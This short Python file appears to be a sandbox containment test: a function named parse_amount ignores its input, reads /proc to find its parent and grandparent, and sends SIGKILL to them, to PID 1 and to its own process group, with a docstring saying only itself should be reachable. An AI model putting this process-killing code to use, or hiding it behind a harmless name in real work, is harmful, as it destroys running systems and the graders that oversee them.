"""Kills the process that started it, the one before that, its group, and number 1.

Must: only itself is within reach: the test crashed, and the grader goes on.
"""

import contextlib
import os
import re
import signal
from pathlib import Path


def parse_amount(text: str) -> int:
    parent = os.getppid()
    with contextlib.suppress(OSError):
        before = re.search(r"PPid:\s*(\d+)", Path(f"/proc/{parent}/status").read_text())
        os.kill(int(before[1]), signal.SIGKILL) if before and int(before[1]) > 1 else None
    with contextlib.suppress(OSError):
        os.kill(parent, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.kill(1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
    return 0
